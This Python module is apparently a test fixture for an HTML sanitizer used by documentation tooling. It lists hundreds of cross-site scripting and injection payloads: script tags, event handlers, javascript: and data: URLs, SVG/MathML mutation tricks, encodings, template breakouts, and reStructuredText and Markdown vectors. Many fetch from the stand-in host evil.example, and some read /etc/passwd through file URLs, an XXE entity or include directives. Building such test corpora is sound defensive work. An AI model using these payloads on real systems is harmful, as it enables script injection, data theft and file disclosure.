"""Texts that try to run a script, or to fetch something from elsewhere, wherever they are shown.

What runs calls ``boom()``; what fetches asks ``evil.example``. Each text stands for one way that
markup, addresses, handlers, parsers or templates have been made to do that.
"""

from __future__ import annotations

EVIL = "evil.example"

ELEMENTS = r"""
<script>boom()</script>
<SCRIPT>boom()</SCRIPT>
<script src=//evil.example/x.js></script>
<script/src="https://evil.example/x.js"></script>
<script type=module>import "//evil.example/x.js"; boom()</script>
<script >boom()</script >
<script>boom()<!--
<script>boom()//
<<script>boom()//<</script>
<scr<script>ipt>boom()</scr</script>ipt>
<script x>boom()</script y>
<script>/*</script><script>*/boom()</script>
</script><script>boom()</script>
</title><script>boom()</script>
</textarea><script>boom()</script>
</style><script>boom()</script>
</template><script>boom()</script>
--><script>boom()</script><!--
]]><script>boom()</script>
'"><script>boom()</script>
`"'><script>boom()</script>
<noscript><p title="</noscript><img src=x onerror=boom()>">
<template><script>boom()</script></template>
<template shadowrootmode=open><img src=x onerror=boom()></template>
<iframe src=javascript:boom()></iframe>
<iframe srcdoc="<script>parent.boom()</script>"></iframe>
"><iframe srcdoc='<img src=x onerror=parent.boom()>'>
<iframe src="data:text/html,<script>parent.boom()</script>"></iframe>
<iframe src=//evil.example/></iframe>
<object data=javascript:boom()></object>
<object data="data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4="></object>
<object><param name=code value=//evil.example/x></object>
<embed src=javascript:boom()>
<embed src=//evil.example/x.swf>
<applet code=//evil.example/x></applet>
<base href=//evil.example/>
<base href="javascript:/"><a href="/boom()">x</a>
<meta http-equiv=refresh content="0;url=javascript:boom()">
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=Set-Cookie content="a=b">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=preload as=script href=//evil.example/x.js>
<link rel=prefetch href=//evil.example/x>
<link rel=dns-prefetch href=//evil.example>
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/x.png)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/x)}body{font-family:x}</style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=boom()>x</b>
<frameset onload=boom()><frame src=//evil.example/></frameset>
<form action=javascript:boom()><button>x</button></form>
<form action=//evil.example/><input name=a></form>
<form><button formaction=javascript:boom()>x</button></form>
<input type=image src=//evil.example/x.png onerror=boom()>
<isindex type=image src=x onerror=boom()>
<portal src=//evil.example/></portal>
<dialog open onfocusin=boom()><button autofocus>x</button></dialog>
<slot onslotchange=boom()></slot>
<x-element is=script onclick=boom()>x</x-element>
<plaintext onmouseover=boom()>
<xmp><p title="</xmp><img src=x onerror=boom()>">
<listing><img src=x onerror=boom()></listing>
<?xml version="1.0"?><script>boom()</script>
<!--[if IE]><script>boom()</script><![endif]-->
<!--><script>boom()</script>-->
<!--!><img src=x onerror=boom()>
<![CDATA[<script>boom()</script>]]>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
"""

HANDLERS = r'''
<img src=x onerror=boom()>
<img src=x onerror="boom()"
<img/src=x/onerror=boom()>
<img src=x:x onerror=boom()//
<IMG SRC=x OnErRoR=boom()>
<img src=x onerror=&#98;&#111;&#111;&#109;&#40;&#41;>
<img src=x onerror="&#x62;oom&lpar;&rpar;">
<img """><script>boom()</script>">
<img src='x' title='a' onerror='boom()'>
<img src=x alt="a" style=x:y onload=boom() onerror=boom()>
<image src=x onerror=boom()>
<body onload=boom()>
<html onmouseover=boom()>
<b onmouseover=boom()>x</b>
<b onclick=boom()>x</b>
<p onpointerenter=boom()>x</p>
<p onwheel=boom()>x</p>
<p oncopy=boom() onpaste=boom()>x</p>
<p contenteditable onblur=boom() oninput=boom()>x</p>
<p tabindex=1 autofocus onfocus=boom()>x</p>
<p accesskey=x onclick=boom()>x</p>
<p popover onbeforetoggle=boom()>x</p>
<p style="content-visibility:auto" oncontentvisibilityautostatechange=boom()>x</p>
<p style="transition:color 1s" ontransitionend=boom()>x</p>
<a href=https://a.example onclick=boom()>x</a>
<a href="https://a.example" onmouseover="boom()">x</a>
<a href="https://a.example"onfocus=boom() autofocus>x</a>
<input autofocus onfocus=boom()>
<select autofocus onfocus=boom()></select>
<textarea autofocus onfocus=boom()></textarea>
<button onclick=boom() autofocus>x</button>
<marquee onstart=boom()>x</marquee>
<marquee loop=1 width=0 onfinish=boom()>x</marquee>
<details open ontoggle=boom()><summary>x</summary></details>
<video src=x onerror=boom()></video>
<video><source src=x onerror=boom()></video>
<video poster=//evil.example/x.png></video>
<audio src=x onerror=boom()></audio>
<audio src=//evil.example/x.ogg autoplay onloadstart=boom()></audio>
<track src=//evil.example/x onerror=boom()>
<td background=//evil.example/x.png>x</td>
<table background=//evil.example/x.png><tr><td onclick=boom()>x</table>
<ol start="1" onclick=boom()><li>x</ol>
<abbr title="x" onmouseover=boom()>x</abbr>
<th colspan=1 onmouseenter=boom()>x</th>
'''

ADDRESSES = r"""
<a href=javascript:boom()>x</a>
<a href="jAvAsCrIpT:boom()">x</a>
<a href=" javascript:boom()">x</a>
<a href="java&#10;script:boom()">x</a>
<a href="java&Tab;script:boom()">x</a>
<a href="&#1;javascript:boom()">x</a>
<a href="&#106;avascript:boom()">x</a>
<a href="&#x6A&#x61vascript:boom()">x</a>
<a href="javascript&colon;boom()">x</a>
<a href="javascript:boom%28%29">x</a>
<a href="javascript://a.example/%0Aboom()">x</a>
<a href="vbscript:boom()">x</a>
<a href="livescript:boom()">x</a>
<a href="data:text/html,<script>opener.boom()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=">x</a>
<a href="blob:https://a.example/x">x</a>
<a href="filesystem:https://a.example/x">x</a>
<a href="view-source:javascript:boom()">x</a>
<a href="feed:javascript:boom()">x</a>
<a href="jar:javascript:boom()!/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="https://a.example" ping=//evil.example/>x</a>
<a href="//a.example" attributionsrc=//evil.example/>x</a>
<a href="https://a.example" style="position:fixed;inset:0;background:url(//evil.example/x)">x</a>
<img src=javascript:boom()>
<img src=`javascript:boom()`>
<img src=//evil.example/x.png>
<img srcset="//evil.example/x.png 1x">
<img lowsrc=//evil.example/x.png dynsrc=javascript:boom()>
<picture><source srcset=//evil.example/x.png><img></picture>
<p style="background:url(//evil.example/x.png)">x</p>
<p style="background-image:url(javascript:boom())">x</p>
<p style="width:expression(boom())">x</p>
<p style="behavior:url(//evil.example/x)">x</p>
<p style="-moz-binding:url(//evil.example/x)">x</p>
<blockquote cite="javascript:boom()">x</blockquote>
<q cite="javascript:boom()">x</q>
<del cite="javascript:boom()">x</del>
"""

FOREIGN = r"""
<svg onload=boom()>
<svg/onload=boom()//
<svg><script>boom()</script></svg>
<svg><script href=//evil.example/x.js /></svg>
<svg><a xlink:href=javascript:boom()><text y=9>x</text></a></svg>
<svg><animate onbegin=boom() attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to=boom()></svg>
<svg><a><animate attributeName=href values=javascript:boom() /><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.boom()</script>"></foreignObject></svg>
<svg><image href=//evil.example/x.png></svg>
<svg><style>@import '//evil.example/x.css';</style></svg>
<svg><discard onbegin=boom()></svg>
<svg><title><img src=x onerror=boom()></title></svg>
<svg></p><style><a id="</style><img src=x onerror=boom()>">
<math href=javascript:boom()>x</math>
<math><maction actiontype=statusline xlink:href=javascript:boom()>x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=boom()></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=boom()&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=boom()>
<table><td><svg><desc><td></desc><style><a title="</style><img src=x onerror=boom()>"></table>
<p id="websupport-data">{"url": "//evil.example", "document": "x"}</p>
<form id=websupport-data><input name=textContent value="{}"></form>
<a id=settings name=url href=//evil.example>x</a>
<img name=getElementById><form name=body><input name=attributes></form>
<p class="sphinx-has-comment websupport-thread" id="s1">x</p>
"""

ENCODINGS = (
    "%3Cscript%3Eboom()%3C/script%3E",
    "%253Cscript%253Eboom()%253C/script%253E",
    "&lt;script&gt;boom()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=boom()&amp;gt;",
    "&#60;img src=x onerror=boom()&#62;",
    "\\u003cscript\\u003eboom()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=boom()\\x3e",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}boom()",
    "\N{SMALL LESS-THAN SIGN}img src=x onerror=boom()\N{SMALL GREATER-THAN SIGN}",
    "+ADw-script+AD4-boom()+ADw-/script+AD4-",
    "<scr\u200bipt>boom()</scr\u200bipt>",
    "<img\u00a0src=x\u00a0onerror=boom()>",
    "<img\u2028src=x\u2028onerror=boom()>",
    "\u202e>tpircs/<)(moob>tpircs<",
    "<ſcript>boom()</ſcript>",
    "<a href='javaſcript:boom()'>x</a>",
    "<ımg src=x onerror=boom()>",
)

BREAKOUTS = r"""
";boom();//
';boom();//
\";boom();//
\';boom();//
'-boom()-'
"+boom()+"
`${boom()}`
${boom()}
#{boom()}
{{boom()}}
{{constructor.constructor('boom()')()}}
{{ self.__init__.__globals__ }}
{% raw %}<script>boom()</script>{% endraw %}
{{ "<script>boom()</script>"|safe }}
<%= boom() %>
[[boom()]]
*/boom()/*
//\n boom()
" autofocus onfocus="boom()
' onmouseover='boom()
" onmouseover=boom() x="
></p><img src=x onerror=boom()><p
__proto__
constructor
{"text": "<script>boom()</script>"}
</mark><img src=x onerror=boom()><mark>
<ins><img src=x onerror=boom()></ins>
"""

RESTRUCTUREDTEXT = (
    "`x <javascript:boom()>`_",
    "`x <JAVASCRIPT:boom()>`__",
    "`x < javascript:boom()>`_",
    "`x <java\\script:boom()>`_",
    "`x <data:text/html,<script>boom()</script>>`_",
    "x_\n\n.. _x: javascript:boom()",
    "x__\n\n__ vbscript:boom()",
    "<javascript:boom()>",
    "javascript:boom()",
    'http://a.example/"onmouseover=boom()//',
    "http://a.example/<script>boom()</script>",
    '`x <http://a.example/"onclick="boom()>`_',
    'mailto:a@a.example"onclick=boom()//',
    ".. image:: javascript:boom()",
    ".. image:: //evil.example/x.png",
    ".. image:: https://evil.example/x.png\n   :target: javascript:boom()",
    '.. image:: x\n   :alt: "onerror=boom()',
    ".. figure:: x\n   :target: javascript:boom()\n\n   <script>boom()</script>",
    "|x|\n\n.. |x| image:: https://evil.example/x.png",
    "|x|\n\n.. |x| replace:: `y <javascript:boom()>`_",
    "|x|\n\n.. |x| unicode:: 0x3C",
    ".. raw:: html\n\n   <script>boom()</script>",
    ".. raw:: html\n   :url: https://evil.example/x",
    ".. raw:: html\n   :file: /etc/passwd",
    ".. role:: r(raw)\n   :format: html\n\n:r:`<script>boom()</script>`",
    ".. default-role:: raw\n\n`<script>boom()</script>`",
    ":raw-html:`<script>boom()</script>`",
    ":raw:`<script>boom()</script>`",
    ":math:`\\href{javascript:boom()}{x}`",
    ".. math::\n\n   \\href{javascript:boom()}{x}",
    ".. math:: <script>boom()</script>",
    ".. include:: /etc/passwd",
    ".. csv-table::\n   :url: https://evil.example/x",
    ".. csv-table::\n   :file: /etc/passwd",
    ".. code:: html\n\n   <script>boom()</script>",
    '.. code:: "onclick=boom()\n\n   x',
    '.. container:: websupport-thread" onclick=boom()\n\n   x',
    '.. class:: x" onclick="boom()\n\nx',
    ".. meta::\n   :http-equiv=refresh: 0;url=//evil.example/",
    ".. title:: </title><script>boom()</script>",
    ".. topic:: <script>boom()</script>\n\n   x",
    ".. parsed-literal::\n\n   <script>boom()</script> `x <javascript:boom()>`_",
    ".. list-table:: <script>boom()</script>\n\n   * - x",
    ".. header:: <script>boom()</script>",
    ".. stylesheet:: //evil.example/x.css",
    ".. highlight:: <script>boom()</script>",
    ".. only:: html\n\n   <script>boom()</script>",
    ".. toctree::\n\n   /etc/passwd",
    ":doc:`javascript:boom()`",
    ":ref:`x <javascript:boom()>`",
    ":download:`x </etc/passwd>`",
    "[#]_\n\n.. [#] <script>boom()</script>",
    ':field" onclick=boom(): x',
    "::\n\n   <script>boom()</script>",
    "``<script>boom()</script>``",
)

MARKDOWN = (
    "[x](javascript:boom())",
    "[x](JaVaScRiPt:boom())",
    "[x](javascript&#58;boom())",
    "[x](javascript&colon;boom())",
    "[x](<javascript:boom()>)",
    "[x](<java\tscript:boom()>)",
    "[x](\\javascript:boom())",
    "[x](%6Aavascript:boom())",
    "[x](data:text/html,<script>boom()</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](vbscript:boom())",
    "[x](file:///etc/passwd)",
    '[x](https://a.example/ "\\" onmouseover=boom() ")',
    "[x](https://a.example/'onclick='boom())",
    "[x][y]\n\n[y]: javascript:boom()",
    '[x]\n\n[x]: data:text/html,boom() "<script>boom()</script>"',
    "![x](javascript:boom())",
    "![x](//evil.example/x.png)",
    '![x](https://evil.example/x.png "onload=boom()")',
    '![" onerror=boom()](x)',
    "[![x](https://evil.example/x.png)](javascript:boom())",
    "<JavaScript:boom()>",
    '<https://a.example/"onclick=boom()>',
    '<a@a.example"onclick=boom()>',
    "```<script>boom()</script>\nx\n```",
    '```"onclick=boom()\nx\n```',
    "`<script>boom()</script>`",
    "    <script>boom()</script>",
    "<div>\n\n<script>boom()</script>\n\n</div>",
    "*<img src=x onerror=boom()>*",
    "# <script>boom()</script>",
    "> <script>boom()</script>",
    "- <img src=x onerror=boom()>",
    "| a |\n| - |\n| <script>boom()</script> |",
    "~~<svg onload=boom()>~~",
    "&lt;script>boom()&lt;/script>",
    "\\<script>boom()\\</script>",
    "[x](<https://a.example/> 'title' onclick=boom())",
    "<!-- x --><script>boom()</script>",
    "<script\n>boom()</script\n>",
)


def _lines(text: str) -> tuple[str, ...]:
    return tuple(line for line in text.strip().split("\n"))


PAYLOADS: tuple[str, ...] = (
    *_lines(ELEMENTS),
    *_lines(HANDLERS),
    *_lines(ADDRESSES),
    *_lines(FOREIGN),
    *ENCODINGS,
    *_lines(BREAKOUTS),
    *RESTRUCTUREDTEXT,
    *MARKDOWN,
)
